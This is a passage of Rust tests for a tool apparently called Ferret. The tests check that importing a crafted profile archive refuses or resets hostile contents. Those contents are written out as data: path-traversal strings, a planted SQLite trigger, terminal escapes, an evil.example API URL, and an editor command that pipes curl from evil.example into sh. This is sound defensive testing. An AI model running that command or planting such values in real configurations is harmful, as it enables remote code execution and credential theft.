        let engine = profiles.engine(id).unwrap();
        engine.add_repo(&notes, Some("notes")).unwrap();
        index_lexical(&engine, None);
    }
    let mut config = profiles.config("source").unwrap();
    config.excludes = vec!["*.log".into()];
    profiles.set_config("source", &config).unwrap();
    let archive = tmp.path().join("source.tar.gz");
    profiles.export("source", &archive).unwrap();
    let keeper = holdings(&profiles, "keeper");
    assert_eq!(keeper.1, ["notes:cache.py"]);

    let crafted = tmp.path().join("crafted.tar.gz");
    let refused: [(&str, ArchiveEdit, &str); 7] = [
        (
            "a remote that climbs to the home directory",
            Box::new(|d| {
                edit_db(
                    d,
                    "UPDATE repos SET remote = '../../../../../..', kind = 'github'",
                )
            }),
            "which is not OWNER/NAME",
        ),
        (
            "an absolute remote",
            Box::new(|d| {
                edit_db(
                    d,
                    &format!(
                        "UPDATE repos SET remote = '{}', kind = 'github'",
                        tmp.path().join("elsewhere").display()
                    ),
                )
            }),
            "which is not OWNER/NAME",
        ),
        (
            "an indexed path outside its repository",
            Box::new(|d| edit_db(d, "UPDATE files SET path = '../../../../etc/passwd'")),
            "outside the repository",
        ),
        (
            "a smuggled trigger",
            Box::new(|d| {
                edit_db(
                    d,
                    "CREATE TRIGGER evil AFTER INSERT ON files BEGIN UPDATE repos SET root = '/'; END;",
                )
            }),
            "trigger \"evil\"",
        ),
        (
            "a truncated database",
            Box::new(|d| {
                let db = d.join("meta.sqlite");
                let bytes = std::fs::read(&db).unwrap();
                std::fs::write(&db, &bytes[..bytes.len() / 2]).unwrap();
            }),
            "its database is damaged",
        ),
        (
            "a repository name with terminal escapes",
            Box::new(|d| edit_db(d, "UPDATE repos SET name = 'notes' || char(27) || '[2J'")),
            "which Ferret does not allow",
        ),
        (
            "a GitHub profile whose API is plain HTTP elsewhere",
            Box::new(|d| {
                let file = d.join("manifest.json");
                let mut m: serde_json::Value =
                    serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
                m["profile"]["kind"] = "github".into();
                m["profile"]["github_login"] = "octo".into();
                m["profile"]["github_user_id"] = 1.into();
                m["profile"]["api_url"] = "http://evil.example/api/v3".into();
                std::fs::write(&file, serde_json::to_vec(&m).unwrap()).unwrap();
            }),
            "unusable GitHub API URL",
        ),
    ];
    for (what, edit, why) in refused {
        craft_archive(&archive, &crafted, edit);
        let err = profiles
            .import(&crafted, Some("keeper"), true)
            .err()
            .unwrap_or_else(|| panic!("{what}: imported"));
        let text = err.to_string();
        assert!(
            text.contains(why) && text.contains("nothing was changed"),
            "{what}: {text}"
        );
        assert_eq!(
            holdings(&profiles, "keeper"),
            keeper,
            "{what}: keeper changed"
        );
        assert_eq!(
            std::fs::read_to_string(home.join("keep.txt")).unwrap(),
            "mine"
        );
        let strays: Vec<_> = std::fs::read_dir(data.join("user_data"))
            .unwrap()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with('.'))
            .collect();
        assert!(strays.is_empty(), "{what}: left {strays:?}");
    }

    // Defused: hostile settings are reset and named, folders wait, the clone URL goes.
    craft_archive(&archive, &crafted, |d| {
        std::fs::write(
            d.join("config.json"),
            serde_json::json!({
                "editor": "custom",
                "editor_command": "sh -c 'curl -s https://evil.example | sh' {path}",
                "model_dir": tmp.path().join("evil-models"),
                "link_open_repos": ["notes"],
                "index_secret_files": true,
                "max_file_bytes": u64::MAX,
                "excludes": ["*.log"],
            })
            .to_string(),
        )
        .unwrap();
        edit_db(
            d,
            &format!(
                "INSERT INTO repos (name, root, kind, added_at) VALUES ('everything', '/', 'local', 0);
                 INSERT INTO repos (name, root, kind, added_at, remote, clone_url, branch, head)
                 VALUES ('acme/alpha', '{}', 'github', 0, 'acme/alpha', 'file:///etc', 'main',
                         '{}');",
                home.display(),
                "a".repeat(40)
            ),
        );
    });
    let report = profiles.import(&crafted, Some("defused"), false).unwrap();
    let mut reset = report.settings_reset_for_safety.clone();
    reset.sort();
    assert_eq!(
        reset,
        [
            "editor",
            "editor_command",
            "index_secret_files",
            "link_open_repos",
            "model_dir"
        ]
    );
    assert!(
        report.settings_reset_as_invalid.len() == 1
            && report.settings_reset_as_invalid[0].contains("max_file_bytes"),
        "{:?}",
        report.settings_reset_as_invalid
    );
    let config = profiles.config("defused").unwrap();
    let mut expected = ferret_engine::profiles::ProfileConfig::default();
    expected.excludes = vec!["*.log".into()];
    assert_eq!(config, expected);
    let mut to_confirm: Vec<&str> = report
        .local_repos_to_confirm
        .iter()
        .map(|r| r.name.as_str())
        .collect();
    to_confirm.sort();
    assert_eq!(to_confirm, ["everything", "notes"]);
    assert_eq!(report.clones_to_restore, ["acme/alpha"]);
    let paths = profiles.paths_of("defused").unwrap();
    let clone_url: Option<String> = rusqlite::Connection::open(paths.meta_db())
        .unwrap()
        .query_row(
            "SELECT clone_url FROM repos WHERE remote = 'acme/alpha'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(clone_url, None, "the archive's clone URL is never kept");
    let engine = profiles.engine("defused").unwrap();
    let repos = engine.repos().unwrap();
    let alpha = repos.iter().find(|r| r.name == "acme/alpha").unwrap();
    assert_eq!(alpha.root, paths.repos_dir().join("acme/alpha"));
    let err = engine.confirm_repo("everything").unwrap_err().to_string();
    assert!(err.contains("the filesystem root"), "{err}");
    let err = engine
        .index(Some("notes"), &AtomicBool::new(false), true, &|_| {})
        .unwrap_err()
        .to_string();
    assert!(err.contains("ferret repo confirm notes"), "{err}");
    engine.confirm_repo("notes").unwrap();
    index_lexical(&engine, Some("notes"));
    assert_eq!(
        lexical(&engine, "evict_least_recently_used"),
        ["notes:cache.py"]
    );
    engine.remove_repo("acme/alpha").unwrap();
    assert_eq!(
        std::fs::read_to_string(home.join("keep.txt")).unwrap(),
        "mine"
    );
    assert_eq!(holdings(&profiles, "keeper"), keeper);
}

/// An imported clone is fetched only from the profile's own GitHub: a clone URL stored in
/// the archive (another server, `file://`) is never used, whoever wrote it. An import that
/// would replace a profile is refused while another process runs its background work, and
/// when the archive's account is not the one whose token the keychain holds for it.
#[test]
fn an_imported_clone_is_fetched_only_from_the_profiles_github() {
    let w = World::new(7304, &[("acme/alpha", ALPHA), ("acme/beta", ALPHA)]);
    let id = w.login();
    let engine = w.profiles.engine(&id).unwrap();
    let cancel = AtomicBool::new(false);
    for name in ["acme/alpha", "acme/beta"] {
        engine
            .add_github_repo(name, None, &cancel, &|_| {})
            .unwrap();
    }
    index_lexical(&engine, None);
    drop(engine);
    let backup = w.data.parent().unwrap().join("backup");
    std::fs::create_dir_all(&backup).unwrap();
    let archive = backup.join("profile.tar.gz");
    w.profiles.export(&id, &archive).unwrap();

    let evil_root = w.data.parent().unwrap().join("evil");
    make_bare_repo(&evil_root, "acme", "alpha", ALPHA);
    let evil = GitServer::start(&evil_root, &w.token);
    let crafted = backup.join("crafted.tar.gz");
    craft_archive(&archive, &crafted, |d| {
        edit_db(
            d,
            &format!(
                "UPDATE repos SET clone_url = '{}' WHERE remote = 'acme/alpha';
                 UPDATE repos SET clone_url = 'file://{}' WHERE remote = 'acme/beta';",
                evil.url("acme/alpha"),
                w.git_root.join("acme/beta.git").display()
            ),
        )
    });

    // Replacing the profile: refused while another process runs its background work.
    let paths = w.profiles.paths_of(&id).unwrap();
    let runner = std::fs::File::options()
        .create(true)
        .truncate(false)
        .write(true)
        .open(paths.runner_lock_file())
        .unwrap();
    runner.try_lock().unwrap();
    let err = w
        .profiles
        .import(&crafted, None, true)
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("in use by another Ferret process") && err.contains("nothing was changed"),
        "{err}"
    );
    drop(runner);
    // An archive naming another GitHub for this account: the token stays out of it.
    let elsewhere = backup.join("elsewhere.tar.gz");
    craft_archive(&archive, &elsewhere, |d| {
        let file = d.join("manifest.json");
        let mut m: serde_json::Value =
            serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
        m["profile"]["api_url"] = "https://evil.example/api/v3".into();
        std::fs::write(&file, serde_json::to_vec(&m).unwrap()).unwrap();
    });
    let err = w
        .profiles
        .import(&elsewhere, None, true)
        .unwrap_err()
        .to_string();
    assert!(err.contains("has a GitHub token in the keychain"), "{err}");
    assert_eq!(
        w.profiles.get(&id).unwrap().api_url.as_deref(),
        Some(w.api.api_url().as_str())
    );

    // The same account: replaced, and the next sync clones from the profile's GitHub.
    let report = w.profiles.import(&crafted, None, true).unwrap();
    assert!(report.replaced && !report.needs_sign_in);
    let engine = w.profiles.engine(&id).unwrap();
    let run = engine
        .sync_and_index(None, &cancel, &|_, _| {}, &|_| {})
        .unwrap();
    assert!(
        run.synced.iter().all(|r| r.recloned && r.error.is_none()),
        "{run:?}"
    );
    assert_eq!(evil.request_count(), 0, "the archive's URL was contacted");
    for repo in engine.repos().unwrap() {
        assert_eq!(
            repo.root,
            paths.repos_dir().join(repo.remote.as_deref().unwrap())
        );
        assert!(repo.root.join("src/ledger.rs").is_file());
    }
    w.assert_token_nowhere();
}
